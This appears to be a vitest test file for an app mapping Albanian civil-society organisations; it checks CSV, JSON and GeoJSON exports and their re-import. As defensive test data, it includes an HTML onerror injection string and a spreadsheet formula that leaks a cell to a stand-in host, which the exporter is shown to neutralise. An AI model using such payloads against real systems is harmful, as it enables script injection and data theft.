import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { checkGazetteer } from '../../src/domain/check-gazetteer';
import { parseCsv } from '../../src/domain/csv';
import type { Dataset, Organisation } from '../../src/domain/dataset';
import {
  EXPORT_3W_COLUMNS,
  export3wCsv,
  export3wGeoJson,
  export3wJson,
  type Export3wContext,
} from '../../src/domain/export-3w';
import type { Gazetteer } from '../../src/domain/gazetteer-schema';
import { previewImport, type ImportPreview } from '../../src/domain/import-3w';
import { parseDataset } from '../../src/domain/parse-dataset';
import { readDataFiles } from '../../src/io/node-files';
import { makeOrganisation } from './fixtures/dataset-fixture';

// The REAL gazetteer and the REAL dataset (data/), so the round trip is tested on what the app
// exports. Organisations added to it below are SYNTHETIC and say so in their ids.

const root = new URL('../../', import.meta.url).pathname;
const checked = checkGazetteer(readFileSync(`${root}geo/gazetteer.json`, 'utf8'));
if (!checked.gazetteer) throw new Error('geo/gazetteer.json does not load');
const gazetteer: Gazetteer = checked.gazetteer;
const { dataset } = parseDataset(readDataFiles(root), gazetteer);

const EXPORTED_AT = '2026-11-22';

function contextFor(data: Dataset = dataset, filter: string | null = null): Export3wContext {
  return { gazetteer, dataset: data, exportedAt: EXPORTED_AT, filterDescription: filter };
}

/** The real dataset with synthetic organisations added (a fresh copy per call). */
function withOrganisations(extra: Organisation[]): Dataset {
  return { ...dataset, organisations: [...dataset.organisations, ...extra] };
}

const municipalityId = (name: string) => {
  const found = gazetteer.municipalities.find((municipality) => municipality.name === name);
  if (!found) throw new Error(`no municipality ${name}`);
  return found.id;
};
const countyId = (name: string) => {
  const found = gazetteer.counties.find((county) => county.name === name);
  if (!found) throw new Error(`no county ${name}`);
  return found.id;
};

const META_HEADERS = new Set<string>(
  EXPORT_3W_COLUMNS.filter((column) => column.hxl.startsWith('#meta')).map(
    (column) => column.header,
  ),
);

/**
 * Warnings other than "unknown column … is ignored" for the provenance columns: an HXL sheet's
 * `#meta` columns are skipped silently, but a sheet with plain headers only names them
 * "Source" and "Exported", which the importer reports once each on the header line.
 */
function unexpectedWarnings(preview: ImportPreview) {
  return preview.warnings.filter(
    (warning) =>
      !(
        warning.line === 1 &&
        warning.field !== undefined &&
        META_HEADERS.has(warning.field) &&
        warning.message.code === 'unknown-column' &&
        warning.message.label === warning.field
      ),
  );
}

/** Per organisation id, what the re-imported rows say about it, as sorted sets. */
function recordsOf(preview: ImportPreview) {
  const byId = new Map<string, ImportPreview['rows']>();
  for (const row of preview.rows) {
    const id = row.matchedOrganisationId ?? `new:${row.organisation}`;
    byId.set(id, [...(byId.get(id) ?? []), row]);
  }
  const set = (values: readonly string[]) => [...new Set(values)].sort();
  return new Map(
    [...byId].map(([id, rows]) => [
      id,
      {
        names: set(rows.map((row) => row.organisation)),
        scope: set(rows.map((row) => row.scope)),
        kind: set(rows.flatMap((row) => (row.kind ? [row.kind] : []))),
        countyIds: set(rows.flatMap((row) => row.countyIds)),
        municipalityIds: set(rows.flatMap((row) => row.municipalityIds)),
        activityTypes: set(rows.flatMap((row) => row.activityTypes)),
        focusTypes: set(rows.flatMap((row) => row.focusTypes)),
      },
    ]),
  );
}

/** The same summary for a dataset record. */
function recordOf(organisation: Organisation) {
  const set = (values: readonly string[]) => [...new Set(values)].sort();
  return {
    names: [organisation.name],
    scope: [organisation.scope],
    kind: [organisation.kind],
    countyIds: organisation.scope === 'national' ? [] : set(organisation.countyIds),
    municipalityIds: organisation.scope === 'national' ? [] : set(organisation.municipalityIds),
    activityTypes: set(organisation.activityTypes),
    focusTypes: set(organisation.focusTypes),
  };
}

function roundTrip(data: Dataset, organisations = data.organisations) {
  const csv = export3wCsv(organisations, contextFor(data));
  return { csv, preview: previewImport('harta-3w.csv', csv, { gazetteer, dataset: data }) };
}

/** Data rows of an exported sheet (after the header and hashtag rows), by column header. */
function dataRows(csv: string) {
  const table = parseCsv(csv);
  return table.records
    .slice(1)
    .map((record) =>
      Object.fromEntries(table.header.map((header, index) => [header, record.values[index] ?? ''])),
    );
}

const longFormCount = (organisations: readonly Organisation[]) =>
  organisations.reduce((sum, organisation) => {
    const areas =
      organisation.scope === 'national'
        ? 0
        : organisation.countyIds.length + organisation.municipalityIds.length;
    return sum + Math.max(1, organisation.activityTypes.length) * Math.max(1, areas);
  }, 0);

describe('export3wCsv: the real dataset', () => {
  const { csv, preview } = roundTrip(dataset);

  it('re-imports with no error, no warning, every record unchanged', () => {
    expect(dataset.organisations.length).toBeGreaterThan(50);
    expect(preview.format).toBe('hxl');
    expect(preview.errors).toEqual([]);
    expect(preview.warnings).toEqual([]);
    expect(preview.rows.length).toBe(longFormCount(dataset.organisations));
    expect(preview.rows.filter((row) => row.action !== 'unchanged')).toEqual([]);
  });

  it('loses nothing the importer compares: areas, scope, activity and focus types, kind', () => {
    const records = recordsOf(preview);
    expect([...records.keys()].sort()).toEqual(dataset.organisations.map((o) => o.id).sort());
    for (const organisation of dataset.organisations) {
      expect(records.get(organisation.id), organisation.id).toEqual(recordOf(organisation));
    }
  });

  it('re-imports the same way by its plain headers, without the hashtag row', () => {
    const lines = csv.split('\n');
    const plain = [lines[0], ...lines.slice(2)].join('\n');
    const again = previewImport('plain.csv', plain, { gazetteer, dataset });
    expect(again.format).toBe('plain');
    expect(again.errors).toEqual([]);
    expect(unexpectedWarnings(again)).toEqual([]);
    expect(recordsOf(again)).toEqual(recordsOf(preview));
  });

  it('writes the header row, the HXL hashtag row, then one row per organisation × activity type × area', () => {
    const table = parseCsv(csv);
    expect(csv.startsWith('\uFEFFOrganisation,')).toBe(true);
    expect(table.header).toEqual(EXPORT_3W_COLUMNS.map((column) => column.header));
    expect(table.records[0]?.values).toEqual(EXPORT_3W_COLUMNS.map((column) => column.hxl));
    expect(table.header).toEqual([
      'Organisation',
      'Acronym',
      'Kind',
      'Activity type',
      'Focus types',
      'Scope',
      'County',
      'County code',
      'Municipality',
      'Municipality code',
      'Website',
      'Source',
      'Exported',
    ]);
    expect(dataRows(csv).length).toBe(longFormCount(dataset.organisations));

    const kukes = dataset.organisations.find((o) => o.id === 'center-for-youth-progress');
    expect(kukes).toBeDefined();
    const kukesRows = dataRows(csv).filter((row) => row.Organisation === kukes?.name);
    expect(kukesRows).toHaveLength(2);
    const { Exported: exported, ...first } = kukesRows[0] ?? {};
    expect(first).toEqual({
      Organisation: 'Center for Youth Progress',
      Acronym: 'CYP',
      Kind: 'Civil-society organisation',
      'Activity type': 'Awareness and informative sessions',
      'Focus types': 'Prevention programming; Whole-of-society approach',
      Scope: 'local',
      County: 'Kukës',
      'County code': gazetteer.municipalities.find((m) => m.name === 'Kukës')?.county,
      Municipality: 'Kukës',
      'Municipality code': municipalityId('Kukës'),
      Website: 'http://cyp.al/',
      Source:
        'Civil Society in Prevention and Countering of Violent Extremism in Albania: Mapping Report, Center for Legal Civic Initiatives, 2019 [000_61f3ef4351b68807], Annex I row 2',
    });
    expect(exported).toMatch(
      /^Harta, 2026-11-22; everything; places: GeoNames \(geonames\.org\), CC BY 4\.0; Natural Earth \(public domain\); /,
    );
    expect(kukesRows[1]?.['Activity type']).toBe('Community engagement and resilience');
  });

  it('writes nationwide organisations as scope "national" with no area', () => {
    const national = dataset.organisations.filter((o) => o.scope === 'national');
    expect(national.length).toBeGreaterThan(0);
    const names = new Set(national.map((o) => o.name));
    const rows = dataRows(csv).filter((row) => names.has(row.Organisation ?? ''));
    expect(rows.length).toBe(national.reduce((sum, o) => sum + o.activityTypes.length, 0));
    for (const row of rows) {
      expect(row).toMatchObject({ Scope: 'national', County: '', Municipality: '' });
    }
  });

  it('leaves no cell a spreadsheet would run', () => {
    for (const row of dataRows(csv)) {
      for (const value of Object.values(row)) expect(value).not.toMatch(/^[=+\-@\t\r]/);
    }
  });
});

describe('export3wCsv: long form edge cases', () => {
  const tirane = countyId('Tiranë');
  const mixed = makeOrganisation({
    id: 'synthetic-mixed-areas',
    name: 'Synthetic Mixed Areas',
    kind: 'cso',
    activityTypes: ['training', 'research'],
    focusTypes: ['prevention'],
    countyIds: [tirane],
    municipalityIds: [municipalityId('Kamëz'), municipalityId('Shkodër')],
    source: { document: '000_61f3ef4351b68807', row: null },
  });

  it('writes a county worked county-wide and a municipality inside it so both come back', () => {
    const data = withOrganisations([mixed]);
    const { csv, preview } = roundTrip(data);
    const rows = dataRows(csv).filter((row) => row.Organisation === mixed.name);
    expect(rows).toHaveLength(2 * 3);
    expect(rows.slice(0, 3).map((row) => [row.County, row.Municipality])).toEqual([
      ['Tiranë', ''],
      ['Tiranë', 'Kamëz'],
      ['Shkodër', 'Shkodër'],
    ]);
    expect(rows[0]?.Source).toMatch(/\[000_61f3ef4351b68807\]$/);
    expect(preview.errors).toEqual([]);
    expect(unexpectedWarnings(preview)).toEqual([]);
    expect(recordsOf(preview).get(mixed.id)).toEqual(recordOf(mixed));
    expect(preview.rows.every((row) => row.action === 'unchanged')).toBe(true);
  });

  it('gives an organisation with no activity type, or no area, one row per area or one row', () => {
    const noType = makeOrganisation({
      id: 'synthetic-no-type',
      name: 'Synthetic No Type',
      activityTypes: [],
      municipalityIds: [municipalityId('Kamëz'), municipalityId('Durrës')],
    });
    const noArea = makeOrganisation({ id: 'synthetic-no-area', name: 'Synthetic No Area' });
    const csv = export3wCsv([noType, noArea], contextFor(withOrganisations([noType, noArea])));
    const rows = dataRows(csv);
    expect(rows.map((row) => [row.Organisation, row['Activity type'], row.Municipality])).toEqual([
      ['Synthetic No Type', '', 'Kamëz'],
      ['Synthetic No Type', '', 'Durrës'],
      ['Synthetic No Area', 'Awareness and informative sessions', ''],
    ]);
    expect(rows[2]).toMatchObject({ Scope: 'local', County: '', 'County code': '' });
    expect(rows.length).toBe(longFormCount([noType, noArea]));
  });

  it('keeps an HTML or script name verbatim, in every export and back through the importer', () => {
    const html = makeOrganisation({
      id: 'synthetic-html',
      name: '<img src=x onerror=alert(1)> & "Partners"',
      acronym: '<b>',
      municipalityIds: [municipalityId('Kamëz')],
    });
    const data = withOrganisations([html]);
    const { csv, preview } = roundTrip(data);
    expect(csv).toContain('"<img src=x onerror=alert(1)> & ""Partners"""');
    const row = preview.rows.find((item) => item.matchedOrganisationId === html.id);
    expect(row).toMatchObject({ organisation: html.name, acronym: '<b>', action: 'unchanged' });
    expect(export3wJson([html], contextFor(data)).organisations[0]?.name).toBe(html.name);
    const feature = export3wGeoJson([html], contextFor(data)).features[0];
    expect(feature?.properties.organisations[0]?.name).toBe(html.name);
  });

  it('never exports a planned intervention stand-in', () => {
    const planned = makeOrganisation({
      id: 'plan:synthetic',
      name: 'Synthetic Planned',
      municipalityIds: [municipalityId('Kamëz')],
      planned: { planId: 'synthetic', implementerKey: 'new:Synthetic Planned' },
    });
    const organisations = [...dataset.organisations, planned];
    const context = contextFor(withOrganisations([planned]));
    expect(export3wCsv(organisations, context)).not.toContain('Synthetic Planned');
    expect(export3wCsv(organisations, context)).toBe(export3wCsv(dataset.organisations, context));
    expect(export3wJson(organisations, context).organisations.map((o) => o.id)).not.toContain(
      planned.id,
    );
    expect(JSON.stringify(export3wGeoJson(organisations, context))).not.toContain(planned.id);
  });
});

describe('export3wCsv: formula cells', () => {
  const kamez = municipalityId('Kamëz');
  const names = [
    '=HYPERLINK("http://example.invalid/?leak="&A1,"Click")',
    '-minus',
    '+plus',
    '@SUM(A1)',
    "'=already quoted",
  ];
  const risky = names.map((name, index) =>
    makeOrganisation({
      id: `synthetic-formula-${index}`,
      name,
      acronym: index === 0 ? '=ACR' : null,
      municipalityIds: [kamez],
    }),
  );
  const data = withOrganisations(risky);

  it('writes each such cell with one more leading apostrophe', () => {
    const rows = dataRows(export3wCsv(risky, contextFor(data)));
    expect(rows.map((row) => row.Organisation)).toEqual([
      `'=HYPERLINK("http://example.invalid/?leak="&A1,"Click")`,
      "'-minus",
      "'+plus",
      "'@SUM(A1)",
      "''=already quoted",
    ]);
    expect(rows[0]?.Acronym).toBe("'=ACR");
    const filtered = dataRows(export3wCsv([], contextFor(data, '-1 kinds; =x')));
    expect(filtered).toEqual([]);
    const withFilter = dataRows(export3wCsv(risky.slice(1, 2), contextFor(data, '=x')));
    expect(withFilter[0]?.Exported).toMatch(/^Harta, 2026-11-22; filter: =x; places: /);
  });

  it('reads back with no formula warning', () => {
    const { preview } = roundTrip(data, risky);
    expect(preview.errors).toEqual([]);
    expect(unexpectedWarnings(preview)).toEqual([]);
  });

  // The importer drops exactly one guarding apostrophe from a cell matching /^'+[=+\-@\t\r]/.
  it('reads back identical, matched to the same organisations', () => {
    const { preview } = roundTrip(data, risky);
    expect(preview.rows.map((row) => row.organisation)).toEqual(names);
    expect(preview.rows.map((row) => row.matchedOrganisationId)).toEqual(risky.map((o) => o.id));
    expect(preview.rows[0]?.acronym).toBe('=ACR');
    expect(preview.rows.every((row) => row.action === 'unchanged')).toBe(true);
  });
});

describe('exports of a filtered subset', () => {
  const training = dataset.organisations.filter((o) => o.activityTypes.includes('training'));
  const context = contextFor(dataset, 'activity type: Training and capacity building');

  it('holds only the organisations the filter keeps, and says which filter', () => {
    expect(training.length).toBeGreaterThan(0);
    expect(training.length).toBeLessThan(dataset.organisations.length);
    const csv = export3wCsv(training, context);
    const rows = dataRows(csv);
    expect(new Set(rows.map((row) => row.Organisation))).toEqual(
      new Set(training.map((o) => o.name)),
    );
    expect(rows.length).toBe(longFormCount(training));
    expect(rows[0]?.Exported).toContain('filter: activity type: Training and capacity building');

    const preview = previewImport('subset.csv', csv, { gazetteer, dataset });
    expect(preview.errors).toEqual([]);
    expect(preview.rows.every((row) => row.action === 'unchanged')).toBe(true);

    const json = export3wJson(training, context);
    expect(json.organisations.map((o) => o.id)).toEqual(training.map((o) => o.id));
    expect(json.filter).toBe('activity type: Training and capacity building');

    const geo = export3wGeoJson(training, context);
    const listed = new Set([
      ...geo.features.flatMap((feature) => [
        ...feature.properties.organisations.map((o) => o.id),
        ...feature.properties.countyWideOrganisations.map((o) => o.id),
      ]),
      ...geo.nationwideOrganisations.map((o) => o.id),
    ]);
    expect(listed).toEqual(new Set(training.map((o) => o.id)));
    expect(geo.metadata.filter).toBe('activity type: Training and capacity building');
  });
});

describe('export3wGeoJson', () => {
  const geo = export3wGeoJson(dataset.organisations, contextFor());

  it('has one point per municipality someone works in, at its seat, inside the country', () => {
    const local = dataset.organisations.filter((o) => o.scope === 'local');
    const expected = gazetteer.municipalities.filter((municipality) =>
      local.some(
        (o) =>
          o.municipalityIds.includes(municipality.id) || o.countyIds.includes(municipality.county),
      ),
    );
    expect(geo.type).toBe('FeatureCollection');
    expect(geo.features.map((feature) => feature.id)).toEqual(expected.map((m) => m.id));
    const [west, south, east, north] = gazetteer.country.bbox;
    for (const feature of geo.features) {
      const municipality = gazetteer.municipalities.find((m) => m.id === feature.id);
      expect(feature.geometry).toEqual({ type: 'Point', coordinates: municipality?.seat.lonLat });
      const [lon, lat] = feature.geometry.coordinates;
      expect(lon).toBeGreaterThanOrEqual(west);
      expect(lon).toBeLessThanOrEqual(east);
      expect(lat).toBeGreaterThanOrEqual(south);
      expect(lat).toBeLessThanOrEqual(north);
    }
  });

  it('lists who names each municipality, who names its county, and who works nationwide', () => {
    const kamez = geo.features.find((feature) => feature.properties.name === 'Kamëz');
    expect(kamez?.properties).toMatchObject({ county: 'Tiranë', countyId: countyId('Tiranë') });
    const naming = dataset.organisations
      .filter((o) => o.scope === 'local' && o.municipalityIds.includes(municipalityId('Kamëz')))
      .map((o) => ({ id: o.id, name: o.name, activityTypes: o.activityTypes }));
    expect(kamez?.properties.organisations).toEqual(naming);
    expect(geo.nationwideOrganisations.map((o) => o.id)).toEqual(
      dataset.organisations.filter((o) => o.scope === 'national').map((o) => o.id),
    );
    for (const feature of geo.features) {
      expect([0, 1, 2, 3]).toContain(feature.properties.hotspotLevel);
      expect(
        feature.properties.organisations.length + feature.properties.countyWideOrganisations.length,
      ).toBeGreaterThan(0);
    }
    expect(geo.features.some((feature) => feature.properties.hotspotLevel === 3)).toBe(true);
  });

  it('carries the attribution, the date and the filter, and survives JSON', () => {
    expect(geo.metadata).toMatchObject({ exportedAt: EXPORTED_AT, filter: null });
    expect(geo.metadata.attribution).toContain('GeoNames (geonames.org), CC BY 4.0');
    expect(geo.metadata.attribution[0]).toMatch(/^Civil Society in Prevention and Countering/);
    const used = new Set(dataset.organisations.flatMap((o) => o.activityTypes));
    expect(geo.metadata.activityTypes.map((entry) => entry.id)).toEqual(
      dataset.activityTypes.filter((entry) => used.has(entry.id)).map((entry) => entry.id),
    );
    expect(JSON.parse(JSON.stringify(geo))).toEqual(geo);
  });
});

describe('export3wJson', () => {
  const document = export3wJson(dataset.organisations, contextFor());

  it('holds the dataset records as they are, with the format, date, filter and attribution', () => {
    expect(document).toMatchObject({
      format: 'harta-3w',
      version: 1,
      country: 'AL',
      exportedAt: EXPORTED_AT,
      filter: null,
    });
    expect(document.organisations).toEqual(dataset.organisations);
    expect(document.documents.map((d) => d.id)).toEqual(
      [...new Set(dataset.organisations.map((o) => o.source.document))].sort(),
    );
    expect(document.attribution).toEqual(
      expect.arrayContaining([
        'GeoNames (geonames.org), CC BY 4.0',
        'Natural Earth (public domain)',
        expect.stringMatching(/Mapping Report.*Center for Legal Civic Initiatives, 2019/),
      ]),
    );
    expect(new Set(document.attribution).size).toBe(document.attribution.length);
  });

  it('round-trips through JSON text', () => {
    const text = JSON.stringify(document, null, 2);
    expect(JSON.parse(text)).toEqual(document);
  });
});
